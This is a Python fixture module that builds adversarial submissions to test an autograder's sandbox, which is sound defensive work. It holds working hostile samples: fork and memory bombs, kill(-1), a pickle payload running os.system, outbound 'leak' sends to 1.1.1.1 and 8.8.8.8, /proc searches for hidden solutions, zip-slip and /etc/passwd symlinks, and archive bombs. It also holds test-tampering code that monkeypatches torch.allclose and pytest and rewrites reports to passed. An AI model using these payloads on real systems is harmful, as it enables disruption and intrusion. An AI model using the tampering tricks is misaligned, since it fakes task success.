"""Adversarial and faulty submissions, each with the score it must get.

Every case is a builder that writes one submission (a folder, a .zip or a .tar.gz) into a
folder of submissions, and an expectation:

* ``FULL``: every non-pending point of the graded modules (the honest code is correct and the
  attack must neither cost nor add anything: output floods, writes outside, network...);
* ``ZERO``: nothing (the honest code is a stub, or never finishes importing);
* ``Twin(name)``: exactly the score of the honest twin `name` graded in the same batch, e.g. a
  function that loops forever must score what the same module earns when that function simply
  raises; the twin must score strictly between zero and full, which proves that the rest of
  the tests were still graded after the crash or hang;
* ``Rejected(words)``: the grader refuses the archive with a reason containing `words`, and
  the batch goes on.

The cases use only the `memory` module's tests (``grade --module memory``) so the suite
grades in a couple of minutes; the attacks do not depend on the module.  They are graded in
`tests/kit/test_grade.py`, which also checks that no process is left behind, that no file
appears outside the sandbox, that the network server saw no connection, and that every
results.json validates.  The builders take the module texts from the kit (solutions/ and
assignment/) so they follow the module as it evolves.
"""

from __future__ import annotations

import io
import os
import random
import tarfile
import textwrap
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from grader import KIT_ROOT

MODULE = "memory"
BROKEN = "storage_bytes"  # the function the function-level attacks break


@dataclass(frozen=True)
class Ctx:
    """What builders may bake into their attack code."""

    root: Path  # the folder of submissions being built
    out: Path  # the results folder of the batch
    marker_dir: Path  # a trusted folder where no file may ever appear
    port: int  # a TCP server on 127.0.0.1 that must never see a connection
    kit_root: Path = KIT_ROOT
    # host unix datagram sockets that must never receive anything ("@name": an abstract one), where
    # the test listens on some (tests/adversarial/isolation.py's launcher matrix does)
    unix_sockets: tuple[str, ...] = ()


class Expect:
    pass


@dataclass(frozen=True)
class Full(Expect):
    pass


@dataclass(frozen=True)
class Zero(Expect):
    pass


@dataclass(frozen=True)
class Twin(Expect):
    name: str


@dataclass(frozen=True)
class Rejected(Expect):
    words: str


FULL, ZERO = Full(), Zero()


@dataclass(frozen=True)
class Case:
    name: str
    build: Callable[[Ctx], Path]
    expect: Expect
    why: str
    needs_isolation: bool = False  # only meaningful under bubblewrap (the fallback cannot hide files)
    message: str = ""  # words the failing tests' output must contain (plain feedback)


# -- module texts -----------------------------------------------------------------------------

def solution_text() -> str:
    return (KIT_ROOT / "solutions" / f"{MODULE}.py").read_text()


def stub_text() -> str:
    return (KIT_ROOT / "assignment" / f"{MODULE}.py").read_text()


def with_code(text: str, code: str) -> str:
    """`text` followed by `code` (which runs at import and may redefine functions)."""
    return text.rstrip() + "\n\n\n" + textwrap.dedent(code).strip() + "\n"


def redefine(text: str, body: str, func: str = BROKEN, args: str = "x") -> str:
    """Redefine `func` (appended, so it overrides the original) with `body`."""
    return with_code(text, f"def {func}({args}):\n" + textwrap.indent(textwrap.dedent(body).strip(), "    "))


def folder(ctx: Ctx, name: str, text: str, extra: dict[str, str] | None = None) -> Path:
    """A release-style folder submission: <name>/assignment/memory.py (+ extra files)."""
    root = ctx.root / name
    (root / "assignment").mkdir(parents=True)
    (root / "assignment" / f"{MODULE}.py").write_text(text)
    for rel, content in (extra or {}).items():
        p = root / rel
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_text(content)
    return root


def marker(ctx: Ctx, name: str) -> str:
    return str(ctx.marker_dir / name)


# -- honest submissions and twins -------------------------------------------------------------

def honest_full(ctx: Ctx) -> Path:
    return folder(ctx, "honest_full", solution_text())


def honest_stub(ctx: Ctx) -> Path:
    return folder(ctx, "honest_stub", stub_text())


def twin_raises(ctx: Ctx) -> Path:
    """The honest twin of every function-level attack: the function simply raises."""
    return folder(ctx, "twin_raises", redefine(solution_text(), 'raise RuntimeError("broken on purpose")'))


def twin_wrong(ctx: Ctx) -> Path:
    """The honest twin of the cheating attacks: a plausible wrong answer, no tricks."""
    return folder(ctx, "twin_wrong", redefine(solution_text(), "return x.numel() * x.element_size()"))


# -- hangs, crashes, bombs ----------------------------------------------------------------------

def loop_at_import(ctx: Ctx) -> Path:
    return folder(ctx, "loop_at_import", with_code(solution_text(), "while True:\n    pass"))


def loop_in_function(ctx: Ctx) -> Path:
    return folder(ctx, "loop_in_function", redefine(solution_text(), "while True:\n    pass"))


def fork_bomb(ctx: Ctx) -> Path:
    return folder(ctx, "fork_bomb", redefine(solution_text(), "import os\nwhile True:\n    os.fork()"))


def fork_bomb_at_import(ctx: Ctx) -> Path:
    return folder(ctx, "fork_bomb_at_import", with_code(solution_text(), "import os\nwhile True:\n    os.fork()"))


def daemon_left_behind(ctx: Ctx) -> Path:
    """A correct module that leaves a detached process running forever (must be killed)."""
    code = """
    import os as _os, time as _time
    _pid = _os.fork()
    if _pid == 0:
        _os.setsid()
        if _os.fork() == 0:
            while True:
                _time.sleep(0.5)
        _os._exit(0)
    _os.waitpid(_pid, 0)
    """
    return folder(ctx, "daemon_left_behind", with_code(solution_text(), code))


def memory_bomb(ctx: Ctx) -> Path:
    return folder(ctx, "memory_bomb", redefine(solution_text(), """
        chunks = [b"x" * 2**26]  # touched memory first, then bigger and bigger blocks
        while True:
            chunks.append(bytearray(2**28))
        """))


def output_flood(ctx: Ctx) -> Path:
    code = """
    import sys as _sys
    for _i in range(200_000):
        print("PASSED tests/public/test_memory.py::test_storage_bytes_of_views [100%]" + "=" * 40)
    _sys.stderr.write("E" * 5_000_000)
    _orig_usage = get_memory_usage
    def get_memory_usage(x):
        print("#" * 1_000_000)
        return _orig_usage(x)
    """
    return folder(ctx, "output_flood", with_code(solution_text(), code))


def thread_keeps_printing(ctx: Ctx) -> Path:
    code = """
    import threading as _threading
    def _spam():
        while True:
            print("spam " * 100)
    _threading.Thread(target=_spam, daemon=True).start()
    """
    return folder(ctx, "thread_keeps_printing", with_code(solution_text(), code))


def sys_exit_at_import(ctx: Ctx) -> Path:
    return folder(ctx, "sys_exit_at_import", with_code(solution_text(), "import sys\nsys.exit(0)"))


def os_exit_at_import(ctx: Ctx) -> Path:
    return folder(ctx, "os_exit_at_import", with_code(solution_text(), "import os\nos._exit(0)"))


def segfault(ctx: Ctx) -> Path:
    return folder(ctx, "segfault", redefine(solution_text(), "import ctypes\nreturn ctypes.string_at(0)"))


def segfault_at_import(ctx: Ctx) -> Path:
    return folder(ctx, "segfault_at_import", with_code(solution_text(), "import ctypes\nctypes.string_at(0)"))


def huge_reply(ctx: Ctx) -> Path:
    """Returns ~128 MB: over the reply cap, so the call fails (and nothing else does)."""
    return folder(ctx, "huge_reply", redefine(solution_text(), "import torch\nreturn torch.zeros(32_000_000)"))


def decoder_stall(ctx: Ctx) -> Path:
    """A reply of a few KB that describes 2**40 list items (shared sub-lists): the trusted side must
    refuse it at once (bounded decoding), not walk it."""
    return folder(ctx, "decoder_stall", redefine(solution_text(), """
        a = [0]
        for _ in range(40):
            a = [a, a]
        return a
        """))


def disk_fill(ctx: Ctx) -> Path:
    code = """
    import tempfile as _tf
    try:
        with open(_tf.gettempdir() + "/fill", "wb") as _f:
            for _i in range(4096):
                _f.write(b"\\0" * 2**20)
    except OSError:
        pass
    """
    return folder(ctx, "disk_fill", with_code(solution_text(), code))


def kill_everything(ctx: Ctx) -> Path:
    code = """
    import os as _os, signal as _signal
    for _target in (-1, _os.getppid(), 1):
        try:
            _os.kill(_target, _signal.SIGKILL)
        except OSError:
            pass
    """
    return folder(ctx, "kill_everything", with_code(solution_text(), code))


# -- cheating -----------------------------------------------------------------------------------

_MONKEYPATCH = """
import builtins as _b, math as _m
import torch as _t
_t.allclose = lambda *a, **k: True
_t.equal = lambda *a, **k: True
_t.testing.assert_close = lambda *a, **k: None
_m.isclose = lambda *a, **k: True
try:
    import pytest as _p, _pytest.outcomes as _o, _pytest.runner as _r
    _p.fail = lambda *a, **k: None
    _o.fail = lambda *a, **k: None
    _p.approx = lambda *a, **k: _b.object()
    _r.call_and_report = lambda *a, **k: None
except Exception:
    pass
try:
    import grader.testing.expect as _e, grader.testing.student as _s
    _e.assert_cases = _e.assert_equal = _e.assert_close = lambda *a, **k: None
    _s.Student.probe = lambda *a, **k: None
except Exception:
    pass
"""


def monkeypatch_checks(ctx: Ctx) -> Path:
    text = redefine(solution_text(), "return x.numel() * x.element_size()")
    return folder(ctx, "monkeypatch_checks", with_code(text, _MONKEYPATCH))


_CONFTEST = '''
import pytest

@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    report = outcome.get_result()
    report.outcome = "passed"
    report.longrepr = None
'''


def conftest_rewrites_reports(ctx: Ctx) -> Path:
    extra = {
        "conftest.py": _CONFTEST,
        "assignment/conftest.py": _CONFTEST,
        "tests/conftest.py": _CONFTEST,
        "pytest.ini": "[pytest]\naddopts = -p assignment.conftest\n",
        "assignment/pytest.ini": "[pytest]\naddopts = --co\n",
        "sitecustomize.py": "import torch\ntorch.allclose = lambda *a, **k: True\n",
        "assignment/sitecustomize.py": "import torch\ntorch.allclose = lambda *a, **k: True\n",
        "assignment/usercustomize.py": "raise SystemExit(0)\n",
        "assignment/grader.py": "raise SystemExit(0)\n",
        "assignment/torch.py": "raise SystemExit(0)\n",
        "assignment/evil.pth": "import os; os._exit(0)\n",
    }
    return folder(ctx, "conftest_rewrites_reports", stub_text(), extra)


def fake_pass_lines(ctx: Ctx) -> Path:
    code = """
    import os as _os, sys as _sys, json as _json
    _lines = "".join(f"PASSED tests/public/test_memory.py::test_{i}\\n" for i in range(50))
    _lines += "============ 50 passed in 0.01s ============\\n" + _json.dumps({"score": 100, "tests": []}) + "\\n"
    print(_lines)
    _sys.stderr.write(_lines)
    for _fd in range(3, 1024):
        try:
            _os.write(_fd, _lines.encode())
        except OSError:
            pass
    """
    return folder(ctx, "fake_pass_lines", with_code(stub_text(), code))


def pickle_smuggle(ctx: Ctx) -> Path:
    """Disables the worker's data check and returns an object that runs code when unpickled."""
    code = f"""
    import os as _os
    class _Evil:
        def __reduce__(self):
            return (_os.system, ("touch {marker(ctx, 'pickle_ran')}",))
    try:
        import grader.boundary.serving as _gs, grader.boundary.messages as _gp
        _gs.check_data = _gp.check_data = lambda *a, **k: None
    except Exception:
        pass
    def storage_bytes(x):
        return _Evil()
    def get_memory_usage(x):
        return _Evil()
    """
    return folder(ctx, "pickle_smuggle", with_code(stub_text(), code))


#: Student code that frames messages in the probe boundary's format (grader/boundary/wire.py) by hand, with
#: struct alone (it imports nothing of the grader), and writes them onto every descriptor it has.
_WIRE_WRITER = """
    import os as _os, struct as _struct
    def _s(text):
        raw = text.encode()
        return b"s" + _struct.pack("<I", len(raw)) + raw
    def _message(body, storages=()):
        head = b"KIT-WIRE-1\\n" + _struct.pack("<I", len(storages)) + b"".join(_struct.pack("<Q", len(x)) for x in storages)
        payload = head + _struct.pack("<Q", len(body)) + body + b"".join(storages)
        return _struct.pack(">Q", len(payload)) + payload
    def _everywhere(frame):
        for _fd in range(3, 1024):
            try:
                _os.write(_fd, frame)
            except OSError:
                pass
"""


def forged_replies(ctx: Ctx) -> Path:
    """Writes well-framed replies claiming success straight onto every fd it can find."""
    code = _WIRE_WRITER + """
    for _seq in range(1, 40):
        _everywhere(_message(b"d" + _struct.pack("<I", 3) + _s("seq") + b"i" + _struct.pack("<q", _seq) + _s("reply")
                             + b"d" + _struct.pack("<I", 1) + _s("ok") + b"i" + _struct.pack("<q", 16)
                             + _s("children") + b"F"))
    """
    return folder(ctx, "forged_replies", with_code(stub_text(), code))


def wire_bombs(ctx: Ctx) -> Path:
    """Well-framed replies built to make the trusted decoder work for minutes: 60,000 dict keys
    sharing one hash (k·(2**61 − 1), big ints: building the dict is quadratic), and 15,000 bool
    tensors on one 512 KiB storage (each once scanned the whole storage).  The decoder refuses the
    first at its first key and checks a storage once."""
    code = _WIRE_WRITER + """
    _keys = b"".join(b"I" + _struct.pack("<I", 11) + (_k * (2**61 - 1)).to_bytes(11, "little", signed=True) + b"N"
                     for _k in range(1, 60001))
    _everywhere(_message(b"d" + _struct.pack("<I", 60000) + _keys))
    _tensor = b"X" + bytes((11, 0, 0)) + _struct.pack("<q", 0) + _struct.pack("<I", 0)  # bool, 0-d, offset 0
    _everywhere(_message(b"l" + _struct.pack("<I", 15000) + _tensor * 15000, [bytes(512 * 1024)]))
    """
    return folder(ctx, "wire_bombs", with_code(stub_text(), code))


# -- escaping the sandbox -------------------------------------------------------------------

def writes_outside(ctx: Ctx) -> Path:
    targets = [marker(ctx, "written"), str(ctx.out / "students" / "writes_outside" / "results.json"),
               str(ctx.out / "instructor" / "students" / "writes_outside" / "instructor.json"),
               str(ctx.out / "writes_outside" / "results.json"), str(ctx.out / "grades.csv"),
               str(ctx.kit_root / "tests" / "public" / "test_pwned.py"), str(ctx.kit_root / "grader" / "pwned.py"),
               "/kit/grader/testing/expect.py", "/submission/memory.py",
               str(ctx.root / "honest_stub" / "assignment" / "memory.py"),
               "/tmp/pwned", "/root/pwned", "/usr/pwned", "/etc/pwned"]
    code = f"""
    import os as _os
    for _path in {targets!r}:
        try:
            _os.makedirs(_os.path.dirname(_path), exist_ok=True)
            with open(_path, "w") as _f:
                _f.write('{{"score": 1000, "tests": []}}')
        except OSError:
            pass
    """
    return folder(ctx, "writes_outside", with_code(solution_text(), code))


def reads_solutions(ctx: Ctx) -> Path:
    """A stub that hunts for the reference solutions and the hidden tests, and delegates to them."""
    code = f"""
    import glob as _glob, os as _os
    _found = None
    _candidates = [{str(ctx.kit_root / "solutions" / "memory.py")!r}, "/kit/../solutions/memory.py",
                   "/work/main/solutions/memory.py", "/submission/../solutions/memory.py"]
    for _proc in _glob.glob("/proc/[0-9]*"):
        for _link in ("cwd", "root"):
            _candidates.append(_os.path.join(_proc, _link, "solutions", "memory.py"))
            _candidates.append(_os.path.join(_proc, _link, "work", "main", "solutions", "memory.py"))
    for _path in _glob.glob("/*/*/solutions/memory.py") + _glob.glob("/*/solutions/memory.py") + _candidates:
        try:
            with open(_path) as _f:
                _found = _f.read()
            break
        except OSError:
            pass
    for _hidden in ({str(ctx.kit_root / "tests" / "hidden" / "test_memory.py")!r}, "/kit/tests/hidden/test_memory.py"):
        try:
            open(_hidden).read()
            raise SystemExit("hidden tests readable")
        except OSError:
            pass
    if _found is not None:
        exec(compile(_found.replace("from __future__ import annotations", ""), "stolen", "exec"), globals())
    """
    return folder(ctx, "reads_solutions", with_code(stub_text(), code))


def network(ctx: Ctx) -> Path:
    code = f"""
    import socket as _socket
    for _addr in (("127.0.0.1", {ctx.port}), ("1.1.1.1", 53), ("8.8.8.8", 80)):
        try:
            _s = _socket.create_connection(_addr, timeout=1)
            _s.sendall(b"leak")
            _s.close()
        except OSError:
            pass
    try:
        _u = _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM)
        _u.sendto(b"leak", ("127.0.0.1", {ctx.port}))
    except OSError:
        pass
    """
    return folder(ctx, "network", with_code(solution_text(), code))


def symlink_to_solutions(ctx: Ctx) -> Path:
    """A folder whose assignment/ is a symlink to the reference solutions (never followed)."""
    root = ctx.root / "symlink_to_solutions"
    root.mkdir()
    (root / "assignment").symlink_to(ctx.kit_root / "solutions")
    return root


def symlink_file_to_solution(ctx: Ctx) -> Path:
    root = ctx.root / "symlink_file_to_solution"
    (root / "assignment").mkdir(parents=True)
    (root / "assignment" / "memory.py").symlink_to(ctx.kit_root / "solutions" / "memory.py")
    return root


# -- archives -------------------------------------------------------------------------------

def zip_dotdot(ctx: Ctx) -> Path:
    path = ctx.root / "zip_dotdot.zip"
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr("assignment/memory.py", solution_text())
        zf.writestr("../../../../" + marker(ctx, "zip_escape.py").lstrip("/"), "pwned")
        zf.writestr("../" * 12 + "tmp/zip_escape_marker", "pwned")
        zf.writestr(marker(ctx, "zip_absolute"), "pwned")
        zf.writestr("assignment/../../conftest.py", _CONFTEST)
    return path


def tar_dotdot(ctx: Ctx) -> Path:
    path = ctx.root / "tar_dotdot.tar.gz"
    with tarfile.open(path, "w:gz") as tf:
        _tar_add(tf, "alice/assignment/memory.py", solution_text().encode())
        _tar_add(tf, "../../" + marker(ctx, "tar_escape").lstrip("/"), b"pwned")
        _tar_add(tf, marker(ctx, "tar_absolute"), b"pwned")
    return path


def _tar_add(tf: tarfile.TarFile, name: str, data: bytes) -> None:
    info = tarfile.TarInfo(name)
    info.size = len(data)
    tf.addfile(info, io.BytesIO(data))


def _tar_symlink(tf: tarfile.TarFile, name: str, target: str) -> None:
    info = tarfile.TarInfo(name)
    info.type = tarfile.SYMTYPE
    info.linkname = target
    tf.addfile(info)


def tar_symlink_etc(ctx: Ctx) -> Path:
    path = ctx.root / "tar_symlink_etc.tar.gz"
    with tarfile.open(path, "w:gz") as tf:
        _tar_symlink(tf, "etc", "/etc")
        _tar_symlink(tf, "assignment/memory.py", "/etc/passwd")
        _tar_symlink(tf, "assignment/views.py", "../../../../../etc/passwd")
        _tar_symlink(tf, "assignment/flops.py", str(KIT_ROOT / "solutions" / "flops.py"))
        hard = tarfile.TarInfo("assignment/data.py")
        hard.type = tarfile.LNKTYPE
        hard.linkname = "/etc/passwd"
        tf.addfile(hard)
    return path


def zip_symlink_etc(ctx: Ctx) -> Path:
    path = ctx.root / "zip_symlink_etc.zip"
    with zipfile.ZipFile(path, "w") as zf:
        for name, target in (("assignment/memory.py", "/etc/passwd"), ("etc", "/etc"),
                             ("assignment/views.py", str(KIT_ROOT / "solutions" / "views.py"))):
            info = zipfile.ZipInfo(name)
            info.create_system = 3
            info.external_attr = (0o120777 << 16)
            zf.writestr(info, target)
    return path


def _raw_zip(path: Path, entries: list[tuple[str, bytes, int, int]]) -> None:
    """A zip written by hand: (name, deflated bytes, crc32, size) per entry, so one small deflated
    block can be declared many times (the classic bomb) without compressing gigabytes here."""
    import struct

    local, central = bytearray(), bytearray()
    for name, data, crc, size in entries:
        offset = len(local)
        raw = name.encode()
        local += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x21, crc, len(data), size, len(raw), 0)
        local += raw + data
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0x21, crc, len(data), size,
                               len(raw), 0, 0, 0, 0, 0, offset)
        central += raw
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(entries), len(entries), len(central), len(local), 0)
    path.write_bytes(bytes(local + central + end))


def zip_bomb(ctx: Ctx) -> Path:
    """600 MiB of zeros declared in ~1 MiB: rejected on its declared size, never unpacked."""
    import zlib

    size = 10 * 2**20
    zeros = b"\0" * size
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = comp.compress(zeros) + comp.flush()
    crc = zlib.crc32(zeros)
    module = solution_text().encode()
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    entries = [("assignment/memory.py", comp.compress(module) + comp.flush(), zlib.crc32(module), len(module))]
    entries += [(f"assignment/data{i}.bin", block, crc, size) for i in range(60)]
    path = ctx.root / "zip_bomb.zip"
    _raw_zip(path, entries)
    return path


def gzip_bomb(ctx: Ctx) -> Path:
    """A .tar.gz whose tar stream inflates to 600 MiB of zeros: rejected while streaming, under the cap.

    Built from one small gzip member of 4 MiB of zeros repeated (a gzip file may hold many members)."""
    import gzip

    header = tarfile.TarInfo("assignment/zeros.bin")
    header.size = 600 * 2**20
    zeros = gzip.compress(b"\0" * (4 * 2**20), compresslevel=9)
    path = ctx.root / "gzip_bomb.tar.gz"
    with open(path, "wb") as f:
        f.write(gzip.compress(header.tobuf(format=tarfile.GNU_FORMAT)))
        for _ in range(150):
            f.write(zeros)
    return path


def big_module(ctx: Ctx) -> Path:
    path = ctx.root / "big_module.zip"
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("assignment/memory.py", solution_text() + "\n#" + "x" * (3 * 2**20))
    return path


def corrupt_zip(ctx: Ctx) -> Path:
    path = ctx.root / "corrupt_zip.zip"
    rng = random.Random(0)
    path.write_bytes(b"PK\x03\x04" + bytes(rng.randrange(256) for _ in range(4000)))
    return path


def truncated_targz(ctx: Ctx) -> Path:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tf:
        _tar_add(tf, "assignment/memory.py", solution_text().encode())
        _tar_add(tf, "assignment/padding.bin", os.urandom(200_000))
    path = ctx.root / "truncated_targz.tar.gz"
    path.write_bytes(buf.getvalue()[: len(buf.getvalue()) // 2])
    return path


def empty_folder(ctx: Ctx) -> Path:
    root = ctx.root / "empty_folder"
    root.mkdir()
    return root


def empty_zip(ctx: Ctx) -> Path:
    path = ctx.root / "empty_zip.zip"
    with zipfile.ZipFile(path, "w"):
        pass
    return path


def zipped_release(ctx: Ctx) -> Path:
    """An honest zip of a release copy nested one folder down (alice/assignment/memory.py)."""
    path = ctx.root / "zipped_release.zip"
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("alice/assignment/memory.py", solution_text())
        zf.writestr("alice/README.md", "my submission")
        zf.writestr("__MACOSX/alice/assignment/._memory.py", "junk")
    return path


CASES: list[Case] = [
    Case("honest_full", honest_full, FULL, "the reference solution"),
    Case("honest_stub", honest_stub, ZERO, "the untouched stubs"),
    Case("twin_raises", twin_raises, Twin("twin_raises"), "honest twin: storage_bytes raises"),
    Case("twin_wrong", twin_wrong, Twin("twin_wrong"), "honest twin: storage_bytes counts the view's elements"),
    Case("loop_at_import", loop_at_import, ZERO, "infinite loop at import", message="timed out"),
    Case("loop_in_function", loop_in_function, Twin("twin_raises"), "infinite loop inside a function",
         message="timed out"),
    Case("fork_bomb", fork_bomb, Twin("twin_raises"), "fork bomb inside a function"),
    Case("fork_bomb_at_import", fork_bomb_at_import, ZERO, "fork bomb at import"),
    Case("daemon_left_behind", daemon_left_behind, FULL, "leaves a detached process running"),
    Case("memory_bomb", memory_bomb, Twin("twin_raises"), "allocates until the memory limit",
         message="memory limit"),
    Case("output_flood", output_flood, FULL, "floods stdout and stderr"),
    Case("thread_keeps_printing", thread_keeps_printing, FULL, "a thread prints forever"),
    Case("sys_exit_at_import", sys_exit_at_import, ZERO, "sys.exit(0) at import"),
    Case("os_exit_at_import", os_exit_at_import, ZERO, "os._exit(0) at import"),
    Case("segfault", segfault, Twin("twin_raises"), "segfault via ctypes inside a function",
         message="segmentation fault"),
    Case("segfault_at_import", segfault_at_import, ZERO, "segfault via ctypes at import"),
    Case("huge_reply", huge_reply, Twin("twin_raises"), "a reply over the size cap"),
    Case("decoder_stall", decoder_stall, Twin("twin_raises"), "a small reply that expands to 2**40 items"),
    Case("disk_fill", disk_fill, FULL, "tries to fill the disk"),
    Case("kill_everything", kill_everything, FULL, "kill(-1), kill(parent), kill(1)"),
    Case("monkeypatch_checks", monkeypatch_checks, Twin("twin_wrong"),
         "wrong code that monkeypatches torch.allclose, pytest internals and the grader's checks"),
    Case("conftest_rewrites_reports", conftest_rewrites_reports, ZERO,
         "stubs plus a conftest.py that rewrites reports, pytest.ini, sitecustomize.py, extra modules"),
    Case("fake_pass_lines", fake_pass_lines, ZERO, "stubs that print fake pass lines everywhere"),
    Case("pickle_smuggle", pickle_smuggle, ZERO, "returns an object that runs code when unpickled"),
    Case("forged_replies", forged_replies, ZERO, "stubs that write forged replies onto every fd"),
    Case("wire_bombs", wire_bombs, ZERO, "stubs that write replies built to stall the trusted decoder onto every fd"),
    Case("writes_outside", writes_outside, FULL, "writes files outside the scratch dir", needs_isolation=True),
    Case("reads_solutions", reads_solutions, ZERO, "stubs that read the solutions and delegate to them",
         needs_isolation=True),
    Case("network", network, FULL, "opens network sockets", needs_isolation=True),
    Case("symlink_to_solutions", symlink_to_solutions, ZERO, "assignment/ is a symlink to solutions/"),
    Case("symlink_file_to_solution", symlink_file_to_solution, ZERO, "memory.py is a symlink to the solution"),
    Case("zip_dotdot", zip_dotdot, FULL, "a zip with ../ and absolute paths"),
    Case("tar_dotdot", tar_dotdot, FULL, "a tar.gz with ../ and absolute paths"),
    Case("tar_symlink_etc", tar_symlink_etc, ZERO, "a tar.gz with symlinks to /etc and the solutions"),
    Case("zip_symlink_etc", zip_symlink_etc, ZERO, "a zip with symlink entries to /etc and the solutions"),
    Case("zip_bomb", zip_bomb, Rejected("zip bomb"), "600 MiB of zeros in a small zip"),
    Case("gzip_bomb", gzip_bomb, Rejected("zip bomb"), "a tar.gz that inflates to 600 MiB"),
    Case("big_module", big_module, Rejected("larger than"), "a 3 MiB memory.py"),
    Case("corrupt_zip", corrupt_zip, Rejected("corrupt"), "random bytes named .zip"),
    Case("truncated_targz", truncated_targz, Rejected("corrupt"), "a truncated .tar.gz"),
    Case("empty_folder", empty_folder, ZERO, "an empty folder"),
    Case("empty_zip", empty_zip, ZERO, "an empty zip"),
    Case("zipped_release", zipped_release, FULL, "an honest zip of alice/assignment/"),
]
